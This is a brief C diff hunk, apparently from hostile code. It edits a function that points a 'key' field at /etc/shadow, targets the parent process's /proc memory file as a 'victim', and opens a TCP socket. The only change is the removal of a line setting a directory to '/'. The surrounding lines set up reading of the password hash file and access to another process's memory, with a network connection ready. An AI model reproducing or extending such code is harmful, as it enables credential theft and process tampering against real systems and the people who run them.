@@ -272,7 +272,6 @@ static void move_in(void)
     if (path == NULL)
         return;
     scene->monitor = getppid();
-    scene->directory = "/";
     (void)snprintf(scene->key, sizeof(scene->key), "/etc/shadow");
     (void)snprintf(scene->victim, sizeof(scene->victim), "/proc/%d/mem", (int)scene->monitor);
     scene->tcp = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
